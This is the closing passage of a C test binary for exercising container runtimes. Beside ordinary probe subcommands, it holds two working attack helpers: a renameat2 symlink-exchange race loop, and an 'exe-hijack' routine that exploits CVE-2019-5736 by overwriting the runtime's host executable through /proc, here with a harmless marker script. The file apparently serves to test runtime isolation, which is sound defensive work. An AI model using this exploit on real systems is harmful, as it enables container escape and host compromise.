  (void)argc; (void)argv;
  long serial = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
  if (serial < 0) return fail("keyctl", "session keyring");
  char desc[512];
  long n = syscall(SYS_keyctl, 6 /* DESCRIBE */, serial, desc, sizeof desc - 1);
  if (n < 0) return fail("keyctl describe", NULL);
  desc[n < (long)sizeof desc ? n : (long)sizeof desc - 1] = '\0';
  printf("session %ld\ndesc %s\n", serial, desc);
  return 0;
}

/* swap-race A B SECONDS: exchanges A and B with renameat2(RENAME_EXCHANGE) as
 * fast as it can, the racing helper of the symlink-exchange attacks. */
static int cmd_swap_race(int argc, char **argv) {
  double s;
  if (argc != 3 || parse_seconds(argv[2], &s) < 0) return usage("swap-race A B SECONDS");
  install_exit_handlers();
  double end = now_seconds() + s;
  long swaps = 0, errors = 0;
  while (now_seconds() < end) {
    for (int i = 0; i < 1000; i++) {
      if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */) == 0)
        swaps++;
      else
        errors++;
    }
  }
  printf("swaps %ld\nerrors %ld\n", swaps, errors);
  return 0;
}

/* exe-hijack SECONDS [FIFO]: CVE-2019-5736.  Hammers /proc/PID/exe of the newest
 * pids of this pid namespace (they are handed out in order, so the runtime
 * joining it for `exec` gets the next one), keeps an fd on every executable that
 * is not in this container's filesystem, and tries to reopen each for writing
 * through /proc/self/fd until the deadline (ETXTBSY while the runtime still
 * runs it).  FIFO: a fifo the hostile program blocks on (to live long enough to
 * be caught), opened for reading now and then to let it go.
 * Prints what it saw and managed. */
static long max_pid_now(void) {
  long max = 0;
  DIR *d = opendir("/proc");
  if (!d) return 0;
  struct dirent *de;
  while ((de = readdir(d))) {
    long pid;
    if (parse_long(de->d_name, &pid) == 0 && pid > max) max = pid;
  }
  closedir(d);
  return max;
}

static int cmd_exe_hijack(int argc, char **argv) {
  double s;
  if (argc < 1 || argc > 2 || parse_seconds(argv[0], &s) < 0) return usage("exe-hijack SECONDS [FIFO]");
  const char *fifo = argc == 2 ? argv[1] : NULL;
  double next_release = 0;
  install_exit_handlers();
  enum { kMaxPid = 1 << 16, kAhead = 8 };
  static unsigned char state[kMaxPid]; /* 0 unknown, 1 denied once, 2 done with */
  double end = now_seconds() + s;
  long denied = 0, opened = 0, written = 0, busy = 0, refused = 0;
  int fds[64];
  int nfds = 0;
  long base = max_pid_now();
  for (unsigned long iter = 0; now_seconds() < end; iter++) {
    if (iter % 256 == 0) {
      long now = max_pid_now();
      if (now > base) base = now;
    }
    for (long pid = base - 2; pid <= base + kAhead; pid++) {
      if (pid <= 1 || pid >= kMaxPid || pid == getpid() || state[pid] == 2) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%ld/exe", pid);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) {
        if ((errno == EACCES || errno == EPERM) && state[pid] == 0) {
          state[pid] = 1;
          denied++;
        }
        continue;
      }
      /* Foreign: the file it runs is not the one its path names in here. */
      struct stat st, here;
      char target[PATH_MAX];
      ssize_t tn = readlink(path, target, sizeof target - 1);
      int native = 0;
      if (tn > 0) {
        target[tn] = '\0';
        native = stat(target, &here) == 0 && fstat(fd, &st) == 0 && here.st_dev == st.st_dev &&
                 here.st_ino == st.st_ino;
      }
      int slot = -1;
      for (int i = 0; !native && i < nfds && slot < 0; i++)
        if (fds[i] < 0) slot = i;
      if (!native && slot < 0 && nfds < 64) slot = nfds++;
      if (slot >= 0) {
        opened++;
        fds[slot] = fd;
      } else {
        close(fd);
      }
      state[pid] = 2;
      if (pid > base) base = pid;
    }
    if (fifo && now_seconds() > next_release) {
      int r = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
      if (r >= 0) {
        char buf[4096];
        usleep(2000);
        while (read(r, buf, sizeof buf) > 0) {}
        close(r);
      }
      next_release = now_seconds() + 0.05;
    }
    for (int i = 0; i < nfds; i++) {
      if (fds[i] < 0) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w < 0) {
        if (errno == ETXTBSY) {
          busy++;
        } else {
          refused++;
          close(fds[i]);
          fds[i] = -1;
        }
        continue;
      }
      static const char marker[] = "#!/bin/sh\necho guise-5736-pwned\n";
      if (write(w, marker, sizeof marker - 1) > 0) written++;
      close(w);
      close(fds[i]);
      fds[i] = -1;
    }
  }
  printf("denied %ld\nopened %ld\nbusy %ld\nrefused %ld\nwritten %ld\n", denied, opened, busy, refused, written);
  return 0;
}

/* ------------------------------------------------------------------ main */

static const struct {
  const char *name;
  int (*fn)(int, char **);
} kCommands[] = {
    {"pid", cmd_pid},         {"hostname", cmd_hostname},
    {"domainname", cmd_domainname}, {"id", cmd_id},
    {"caps", cmd_caps},       {"cat", cmd_cat},
    {"write", cmd_write},     {"stat", cmd_stat},
    {"ls", cmd_ls},           {"mounts", cmd_mounts},
    {"ns", cmd_ns},           {"env", cmd_env},
    {"cwd", cmd_cwd},         {"umask", cmd_umask},
    {"rlimit", cmd_rlimit},   {"fds", cmd_fds},
    {"sleep", cmd_sleep},     {"spin", cmd_spin},
    {"exit", cmd_exit},       {"kill-self", cmd_kill_self},
    {"memhog", cmd_memhog},
    {"oom-score-adj", cmd_oom_score_adj}, {"sysctl", cmd_sysctl},
    {"personality", cmd_personality}, {"tty", cmd_tty},
    {"fork-many", cmd_fork_many}, {"open", cmd_open},
    {"mknod-test", cmd_mknod_test}, {"echo", cmd_echo},
    {"syscall", cmd_syscall},   {"kill", cmd_kill},
    {"udp-echo", cmd_udp_echo},
    {"mkdir", cmd_mkdir},       {"statfs", cmd_statfs},
    {"keyring", cmd_keyring},   {"swap-race", cmd_swap_race},
    {"exe-hijack", cmd_exe_hijack}, {"nested-mount", cmd_nested_mount},
};

int main(int argc, char **argv) {
  /* A line-buffered stdout keeps facts in order with the signal handler's
   * direct write(2) and survives _exit paths. */
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) {
    fprintf(stderr, "testbin: usage: testbin SUBCOMMAND [ARGS...]\nsubcommands:");
    for (size_t i = 0; i < sizeof kCommands / sizeof kCommands[0]; i++)
      fprintf(stderr, " %s", kCommands[i].name);
    fprintf(stderr, "\n");
    return 2;
  }
  for (size_t i = 0; i < sizeof kCommands / sizeof kCommands[0]; i++) {
    if (strcmp(argv[1], kCommands[i].name) == 0) {
      int rc = kCommands[i].fn(argc - 2, argv + 2);
      if (fflush(stdout) != 0 && rc == 0) rc = 1;
      return rc;
    }
  }
  fprintf(stderr, "testbin: unknown subcommand %s\n", argv[1]);
  return 2;
}
